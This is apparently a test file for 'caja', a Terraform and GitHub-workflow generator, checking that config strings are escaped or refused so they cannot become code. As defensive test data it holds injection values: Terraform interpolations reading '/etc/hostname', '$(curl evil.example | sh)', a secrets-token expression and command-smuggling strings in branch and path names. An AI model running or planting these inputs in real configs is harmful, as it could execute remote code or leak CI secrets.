/**
 * No config string becomes Terraform code (issue 11, items 5 and 6). Every string caja writes where
 * Terraform evaluates templates is escaped unless it is one of caja's expressions, so a tag, a
 * TODO's reason or a host is always read back as the text the config holds; the escape hatch's
 * bodies stay Terraform expressions, but each reference in them must name something its root
 * declares. The generated workflow takes only plain words from the config.
 */
import { spawnSync } from "node:child_process";
import { cpSync, mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { todo } from "@caja/dsl";
import { render } from "@caja/modules";
import { rootDocument, testDocument } from "../packages/compiler/src/emit.js";
import { ConfigIssuesError } from "../packages/compiler/src/errors.js";
import { stableStringify } from "../packages/compiler/src/json.js";
import { rootById } from "../packages/compiler/src/plan.js";
import { checkRoots, findTerraform, runTerraform, terraformEnv } from "../packages/compiler/src/terraform.js";
import { workflowYaml } from "../packages/compiler/src/workflow.js";
import { baseConfig, BY_DESIGN_SUPPRESSIONS, CAJA_BIN, compileWith, fileTree, repoTempDir, rootJson, tempDir, testJson } from "./helpers.js";

const terraform = findTerraform();

/** Text Terraform would run if it were written as is: it reads a file of the machine that plans. */
const READS_A_FILE = '${trimspace(file("/etc/hostname"))}';
/** The same, for a file that does not exist: `terraform validate` fails if this is ever evaluated. */
const READS_NO_FILE = '${file("/nonexistent/caja-injected")}';
const DIRECTIVE = "%{ if true }yes%{ endif }";

function issuesOf(config: unknown): { path: string; message: string }[] {
  try {
    compileWith(config);
  } catch (e) {
    if (e instanceof ConfigIssuesError) return e.issues.map((i) => ({ path: i.path, message: i.message }));
    throw e;
  }
  throw new Error("expected the config to be refused");
}

function withExtend(env: string, phase: string, extension: unknown): unknown {
  const c = baseConfig() as any;
  return { ...c, environments: { ...c.environments, [env]: { extend: { [phase]: extension } } } };
}

/**
 * A compiled plan whose config carries values the schema would refuse today: the emitter must not
 * rely on the schema to keep them out of Terraform's reach.
 */
function hostileEmit(rootId: string) {
  const compiled = compileWith();
  const root = rootById(compiled.plan, rootId)!;
  const config = { ...compiled.config, tags: { ...compiled.config.tags, Note: READS_A_FILE, Tpl: DIRECTIVE, [`K${READS_A_FILE}`]: "key" } };
  return { compiled, root, config };
}

describe("config strings are written as literals wherever Terraform evaluates them", () => {
  it("writes a tag that holds ${...} or %{...} into default_tags escaped, keys included", () => {
    const { compiled, root, config } = hostileEmit("prod/80-observability");
    const tags = (rootDocument(root, config, compiled.plan) as any).provider.aws[0].default_tags.tags;
    expect(tags.Note).toBe('$${trimspace(file("/etc/hostname"))}');
    expect(tags.Tpl).toBe("%%{ if true }yes%%{ endif }");
    expect(tags['K$${trimspace(file("/etc/hostname"))}']).toBe("key");
    expect(Object.keys(tags).filter((k) => k.includes("${") && !k.includes("$${"))).toEqual([]);
  });

  it("escapes module text built from the config in test assertions, validation messages and outputs", () => {
    const { compiled, root } = hostileEmit("prod/80-observability");
    const b = root.builder;
    b.assert("aws_kms_key.alarms.enable_key_rotation == true", `the key of ${READS_A_FILE} rotates`);
    b.variable("caja_probe", {
      type: "string",
      description: `probe ${READS_A_FILE}`,
      example: READS_A_FILE,
      validation: [{ condition: "length(var.caja_probe) > 0", error_message: `set ${READS_A_FILE}` }],
    });
    b.output("caja_probe", { value: READS_A_FILE, description: READS_A_FILE, example: READS_A_FILE });
    const doc = rootDocument(root, compiled.config, compiled.plan) as any;
    const test = testDocument(root) as any;
    expect(test.run[0].mock_apply.assert.at(-1).error_message).toBe('the key of $${trimspace(file("/etc/hostname"))} rotates');
    expect(test.variables.caja_probe).toBe('$${trimspace(file("/etc/hostname"))}');
    expect(doc.variable.caja_probe.validation[0]).toEqual({ condition: "${length(var.caja_probe) > 0}", error_message: 'set $${trimspace(file("/etc/hostname"))}' });
    expect(doc.output.caja_probe.value).toBe('$${trimspace(file("/etc/hostname"))}');
  });

  it("writes what Terraform reads without evaluating as it is: a TODO's reason in a variable description", () => {
    const reason = `pick one; ${READS_A_FILE} ${DIRECTIVE}`;
    const c = compileWith({ ...baseConfig(), github: { repository: todo(reason) } });
    const variable = rootJson(c, "global/05-iam-oidc").variable.github_repository;
    // Descriptions are never evaluated (checked against terraform below), so escaping would show "$${".
    expect(variable.description).toBe(`TODO: ${reason}`);
  });

  it("refuses a config string holding the characters caja marks expressions with, at its field", () => {
    const forged = "\uE000file(\"/etc/hostname\")\uE001";
    expect(issuesOf({ ...baseConfig(), github: { repository: todo(`x ${forged}`) } })).toEqual([
      { path: "github.repository", message: expect.stringContaining("U+E000 to U+E002") },
    ]);
    // The tag rule may refuse it first; either way it is refused at the tag, never written.
    expect(issuesOf({ ...baseConfig(), tags: { ...baseConfig().tags, Note: forged } }).map((i) => i.path)).toEqual(["tags.Note"]);
  });

  describe.skipIf(!terraform)("terraform reads the escaped strings back as the config wrote them", () => {
    it("as output values and keys", { timeout: 120_000 }, async () => {
      const dir = tempDir("caja-escape-");
      const hostile = { [READS_A_FILE]: READS_A_FILE, directive: DIRECTIVE, doubled: "$${kept} %%{kept}", list: [READS_NO_FILE] };
      writeFileSync(join(dir, "main.tf.json"), stableStringify({ output: { v: { value: render(hostile) } } }));
      const env = await terraformEnv();
      for (const args of [["init", "-input=false", "-no-color"], ["apply", "-auto-approve", "-input=false", "-no-color"]]) {
        const r = await runTerraform(terraform!, args, dir, env);
        expect(r.code, r.stderr).toBe(0);
      }
      const out = await runTerraform(terraform!, ["output", "-json", "v"], dir, env);
      expect(JSON.parse(out.stdout)).toEqual(hostile);
    });

    it("in a generated root whose tags would read a missing file if evaluated: validate and the mock apply pass", { timeout: 300_000 }, async () => {
      const { compiled, root } = hostileEmit("global/90-hardening");
      const config = { ...compiled.config, tags: { ...compiled.config.tags, Note: READS_NO_FILE } };
      const dir = join(tempDir("caja-escape-root-"), root.id);
      mkdirSync(dir, { recursive: true });
      writeFileSync(join(dir, "main.tf.json"), stableStringify(rootDocument(root, config, compiled.plan)));
      writeFileSync(join(dir, "main.tftest.json"), stableStringify(testDocument(root)));
      const [result] = await checkRoots(terraform!, [dir]);
      expect(result!.detail).not.toContain("nonexistent");
      expect(result!.ok, result!.detail).toBe(true);
    });

    it("as a variable description, verbatim", { timeout: 120_000 }, async () => {
      const reason = `pick one; ${READS_A_FILE}`;
      const c = compileWith({ ...baseConfig(), github: { repository: todo(reason) } });
      const dir = tempDir("caja-escape-desc-");
      writeFileSync(join(dir, "main.tf.json"), stableStringify({ variable: { github_repository: rootJson(c, "global/05-iam-oidc").variable.github_repository } }));
      const env = await terraformEnv();
      const init = await runTerraform(terraform!, ["init", "-input=false", "-no-color"], dir, env);
      expect(init.code, init.stderr).toBe(0);
      const plan = await runTerraform(terraform!, ["plan", "-input=false", "-no-color", "-var", "github_repository=dbash/caja", "-out=p.tfplan"], dir, env);
      expect(plan.code, plan.stderr).toBe(0);
      const shown = JSON.parse((await runTerraform(terraform!, ["show", "-json", "p.tfplan"], dir, env)).stdout);
      expect(shown.configuration.root_module.variables.github_repository.description).toBe(`TODO: ${reason}`);
    });
  });
});

describe("references in the escape hatch must name what the root declares", () => {
  it("refuses a resource the root does not declare, at the field, suggesting the one it has", () => {
    expect(issuesOf(withExtend("prod", "observability", { overrides: { "aws_sns_topic.alarms": { kms_master_key_id: "${aws_kms_key.nope.arn}" } } }))).toEqual([
      {
        path: 'environments.prod.extend.observability.overrides["aws_sns_topic.alarms"].kms_master_key_id',
        message: '"${aws_kms_key.nope.arn}": prod/80-observability declares no resource aws_kms_key.nope. Did you mean "aws_kms_key.alarms"?',
      },
    ]);
  });

  it("refuses a data source the root does not declare, saying the escape hatch adds none", () => {
    const policy = { arn: "${aws_sns_topic.alarms.arn}", policy: "${data.aws_iam_policy_document.x.json}" };
    expect(issuesOf(withExtend("prod", "observability", { resources: { aws_sns_topic_policy: { audit: policy } } }))).toEqual([
      {
        path: "environments.prod.extend.observability.resources.aws_sns_topic_policy.audit.policy",
        message:
          '"${data.aws_iam_policy_document.x.json}": prod/80-observability declares no data source data.aws_iam_policy_document.x. The escape hatch adds no data sources: write the value itself (a policy with jsonencode(...), for one).',
      },
    ]);
  });

  it.each([
    ["a variable", "${var.alarm_emails}", "declares no variable var.alarm_emails"],
    ["a local", "${local.topic}", "caja declares no locals"],
    ["a module", "${module.sns.arn}", "caja calls no modules"],
    ["count outside a counted resource", "x-${count.index}", 'only known in a resource that sets "count"'],
    ["each outside for_each", "${each.key}", 'only known in a resource that sets "for_each"'],
    ["self outside a provisioner", "${self.arn}", "self is only known in"],
    ["a bare name", "${topic}", '"topic" names nothing here'],
    ["a misspelt type", "${aws_kms_kye.alarms.arn}", 'Did you mean "aws_kms_key.alarms"?'],
    ["a reference inside a function's arguments", '${jsonencode({ Resource = aws_sns_topic.nope.arn })}', "declares no resource aws_sns_topic.nope"],
    ["a reference inside a quoted template", '${upper("x-${aws_kms_key.gone.id}")}', "declares no resource aws_kms_key.gone"],
    ["a map key", { tags: { "${var.owner}": "x" } }, "declares no variable var.owner"],
  ])("refuses %s", (_what, value, message) => {
    const body = typeof value === "string" ? { name: "caja-prod-audit", display_name: value } : { name: "caja-prod-audit", ...value };
    const found = issuesOf(withExtend("prod", "observability", { resources: { aws_sns_topic: { audit: { kms_master_key_id: "${aws_kms_key.alarms.arn}", ...body } } } }));
    expect(found).toEqual([{ path: expect.stringMatching(/^environments\.prod\.extend\.observability\.resources\.aws_sns_topic\.audit\./), message: expect.stringContaining(message) }]);
  });

  it("refuses a depends_on address the root does not declare", () => {
    const found = issuesOf(withExtend("prod", "observability", { overrides: { "aws_sns_topic.alarms": { depends_on: ["aws_kms_key.alarm"] } } }));
    expect(found).toEqual([{ path: 'environments.prod.extend.observability.overrides["aws_sns_topic.alarms"].depends_on[0]', message: expect.stringContaining('Did you mean "aws_kms_key.alarms"?') }]);
  });

  it("accepts what the root declares: resources (its own extra ones too), data sources, remote state, variables, built-ins and bound names", () => {
    const c = compileWith(withExtend("prod", "observability", ACCEPTED));
    const doc = rootJson(c, "prod/80-observability");
    expect(doc.resource.aws_sns_topic.alarms.display_name).toBe("${upper(aws_kms_key.alarms.key_id)}");
    expect(doc.resource.aws_sns_topic.audit.tags.Literal).toBe("$${not.a.reference}");
    expect(doc.resource.aws_sns_topic_subscription.extra.endpoint).toBe("${each.value}");
    expect(testJson(c, "prod/80-observability").run[0].mock_apply.command).toBe("apply");
  });

  it.skipIf(!terraform)("produces, for a config it accepts, a root terraform validates and mock-applies", { timeout: 300_000 }, async () => {
    const c = compileWith(withExtend("prod", "observability", ACCEPTED));
    const out = tempDir("caja-refs-");
    for (const f of c.files.filter((f) => f.path.startsWith("prod/80-observability/"))) {
      mkdirSync(dirname(join(out, f.path)), { recursive: true });
      writeFileSync(join(out, f.path), f.content);
    }
    const [result] = await checkRoots(terraform!, [join(out, "prod/80-observability")]);
    expect(result!.ok, result!.detail).toBe(true);
  });

  it.skipIf(!terraform)("is right to refuse the two references: terraform validate fails on each", { timeout: 300_000 }, async () => {
    const out = tempDir("caja-refs-bad-");
    const roots = [
      ["kms", (doc: any) => (doc.resource.aws_sns_topic.alarms.kms_master_key_id = "${aws_kms_key.nope.arn}"), '"aws_kms_key" "nope" has not been declared'],
      ["data", (doc: any) => (doc.resource.aws_sns_topic_policy.alarms.policy = "${data.aws_iam_policy_document.x.json}"), '"aws_iam_policy_document" "x" has not been declared'],
    ] as const;
    for (const [name, edit] of roots) {
      const doc = rootJson(compileWith(), "prod/80-observability");
      edit(doc);
      mkdirSync(join(out, name));
      writeFileSync(join(out, name, "main.tf.json"), stableStringify(doc));
    }
    const results = await checkRoots(terraform!, roots.map(([name]) => join(out, name)));
    roots.forEach(([, , error], i) => {
      expect(results[i]!.failedStep).toBe("validate");
      expect(results[i]!.detail).toContain(error);
    });
  });
});

/** Extend bodies whose every reference resolves in prod/80-observability. */
const ACCEPTED = {
  overrides: { "aws_sns_topic.alarms": { display_name: "${upper(aws_kms_key.alarms.key_id)}" } },
  resources: {
    aws_sns_topic: {
      audit: {
        name: "caja-prod-audit",
        kms_master_key_id: "${aws_kms_key.alarms.arn}",
        tags: {
          Account: "${data.aws_caller_identity.current.account_id}",
          Alb: "${data.terraform_remote_state.service.outputs.alb_arn_suffix}",
          Module: "${basename(path.module)}",
          Workspace: "${terraform.workspace}",
          Literal: "$${not.a.reference}",
        },
      },
    },
    aws_sns_topic_policy: {
      audit: {
        arn: "${aws_sns_topic.audit.arn}",
        policy:
          '${jsonencode({ Version = "2012-10-17", Statement = [for action in ["sns:Publish"] : { Effect = "Allow", Action = action, Principal = { Service = "cloudwatch.amazonaws.com" }, Resource = aws_sns_topic.audit.arn, Condition = { StringEquals = { "aws:SourceAccount" = data.aws_caller_identity.current.account_id } } }] })}',
      },
    },
    aws_sns_topic_subscription: {
      extra: { for_each: '${toset(["audit@dbash.dev"])}', topic_arn: "${aws_sns_topic.audit.arn}", protocol: "email", endpoint: "${each.value}", depends_on: ["aws_sns_topic_policy.audit"] },
    },
  },
};

describe("the workflow takes only plain words from the config", () => {
  const HOSTILE = ["${{ secrets.GITHUB_TOKEN }}", "$(curl evil.example | sh)", "a'b", 'a"b', "a b", "a`id`", "a\nb", "a;b"];

  it.each([
    ["project", (v: string) => ({ ...baseConfig(), project: v }), "project"],
    ["an environment name", (v: string) => ({ ...baseConfig(), environments: { [v]: {} } }), "environments"],
    ["the main branch", (v: string) => ({ ...baseConfig(), github: { repository: "dbash/caja", mainBranch: v } }), "github.mainBranch"],
    ["the repository", (v: string) => ({ ...baseConfig(), github: { repository: `dbash/${v}` } }), "github.repository"],
    ["the region", (v: string) => ({ ...baseConfig(), region: v }), "region"],
    ["the account id", (v: string) => ({ ...baseConfig(), accountId: v }), "accountId"],
  ])("refuses shell or GitHub-expression text in %s", (_what, configWith, path) => {
    for (const value of HOSTILE) {
      const found = issuesOf(configWith(value));
      expect(found.length, value).toBeGreaterThan(0);
      expect(found.every((i) => i.path.startsWith(path)), `${value}: ${JSON.stringify(found)}`).toBe(true);
    }
  });

  it("stops rather than write a workflow that would run a config string, should one ever get past validation", () => {
    const compiled = compileWith();
    for (const mainBranch of ["${{ secrets.GITHUB_TOKEN }}", "main'; curl evil.example | sh; '"]) {
      const config = { ...compiled.config, github: { ...compiled.config.github, mainBranch } };
      expect(() => workflowYaml(config, compiled.plan, { outDir: "out", configFile: "caja.config.ts" })).toThrow(/^internal: github\.mainBranch/);
    }
    const out = "out$(id)";
    expect(() => workflowYaml(compiled.config, compiled.plan, { outDir: out, configFile: "caja.config.ts" })).toThrow(/^internal: --out/);
  });
});

describe("caja compile, as users run it", () => {
  const source = (environments: string) => `import { defineConfig } from "caja";

export default defineConfig({
  project: "caja",
  tags: { Owner: "platform-engineering", Confidentiality: "internal", CostCenter: "events-eng" },
  domain: { root: "dbash.dev", namespace: "caja" },
  github: { repository: "dbash/caja" },
  defaults: { alarms: { emails: ["oncall@dbash.dev"] } },
  environments: ${environments},
  policy: { suppressions: ${JSON.stringify(BY_DESIGN_SUPPRESSIONS)} },
});
`;
  const caja = (cwd: string) => spawnSync(process.execPath, [CAJA_BIN, "compile"], { cwd, encoding: "utf8", timeout: 60_000 });
  let previousOut: string;

  beforeAll(() => {
    const dir = repoTempDir("trust-escaping-good-");
    writeFileSync(join(dir, "caja.config.ts"), source("{ dev: {}, prod: {} }"));
    const r = caja(dir);
    expect(r.status, r.stderr).toBe(0);
    previousOut = join(dir, "out");
  });

  it("refuses unresolved escape-hatch references at their lines, without a stack trace, leaving out/ and its neighbours as they were", () => {
    const environments = `{
    dev: {},
    prod: {
      extend: {
        observability: {
          overrides: { "aws_sns_topic.alarms": { kms_master_key_id: "\${aws_kms_key.nope.arn}" } },
          resources: { aws_sns_topic_policy: { audit: { arn: "\${aws_sns_topic.alarms.arn}", policy: "\${data.aws_iam_policy_document.x.json}" } } },
        },
      },
    },
  }`;
    const text = source(environments);
    const dir = repoTempDir("trust-escaping-");
    writeFileSync(join(dir, "caja.config.ts"), text);
    cpSync(previousOut, join(dir, "out"), { recursive: true });
    mkdirSync(join(dir, "beside"));
    writeFileSync(join(dir, "beside", "notes.txt"), "kept\n");
    const before = { out: fileTree(join(dir, "out")), beside: fileTree(join(dir, "beside")) };

    const r = caja(dir);
    expect(r.status, r.stdout + r.stderr).toBe(1);
    const line = (needle: string) => text.slice(0, text.indexOf(needle)).split("\n").length;
    expect(r.stderr).toContain(`caja.config.ts:${line("kms_master_key_id")}:`);
    expect(r.stderr).toContain('"${aws_kms_key.nope.arn}": prod/80-observability declares no resource aws_kms_key.nope. Did you mean "aws_kms_key.alarms"?');
    expect(r.stderr).toContain(`caja.config.ts:${line("policy: ")}:`);
    expect(r.stderr).toContain("declares no data source data.aws_iam_policy_document.x");
    expect(r.stderr).not.toMatch(/\n\s+at /);
    expect(r.stderr).not.toContain("internal");
    expect({ out: fileTree(join(dir, "out")), beside: fileTree(join(dir, "beside")) }).toEqual(before);
  });
});
